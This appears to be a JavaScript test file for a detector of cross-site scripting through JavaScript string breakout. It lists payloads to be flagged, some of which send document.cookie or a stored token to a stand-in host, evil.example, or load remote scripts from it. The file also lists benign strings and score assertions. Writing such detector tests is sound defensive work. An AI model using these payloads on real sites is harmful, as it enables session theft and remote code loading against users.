import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { jsStringBreakout } from '../../../src/threat/detectors/xss-js-breakout.js';
import { xssClean, xssFlags } from './detector-cases.js';

/**
 * A value reflected into a quoted JavaScript string needs no tag and no known sink: closing the string,
 * calling anything and commenting out the rest runs in the page. Payloads that exfiltrate or load a script
 * through a call the sink lists do not name (`new Image().src=…`, `$.getScript(…)`, `import(…)`) were let
 * through at PL1 (0 or 0.6) while `';confirm(7)//` was refused.
 */
xssFlags('JS string breakout with a call', [
  "';new Image().src='//evil.example/?'+document.cookie//",
  "';$.getScript('//evil.example/x.js')//",
  "';import('//evil.example/x.js')//",
  "\";steal(document.cookie);//",
  "\\';loadScript('//evil.example/x.js')//",
  "'-getScript('//evil.example/x.js')-'",
  "')+require('child_process')+('",
  "'});exfil(localStorage.token);//",
  "\"+x.constructor`return this`+\"",
]);

xssClean('quoted text, quoted symbols and code that does not break out', [
  "'-' + pad(3) + '-'", '"a";"b"', "'hello' said x(1) //", "'quoted' and then (a note)", '"; not code here //',
  "It's f(x) for all x //", "';", "'; see https://example.com/a(b)", '"Fine", she said (twice).', "'+1' is my vote (see above)",
]);

describe('jsStringBreakout', () => {
  it('needs the string closed first, a call, and the line commented out or the string reopened', () => {
    assert.equal(jsStringBreakout("';f(1)//"), 0.85);
    assert.equal(jsStringBreakout("x';f(1)//"), 0);
    assert.equal(jsStringBreakout("';f//"), 0);
    assert.equal(jsStringBreakout("';f(1)"), 0);
    assert.equal(jsStringBreakout("'+f(1)+'"), 0.85);
    assert.equal(jsStringBreakout("'+f(1)+\""), 0);
  });
});
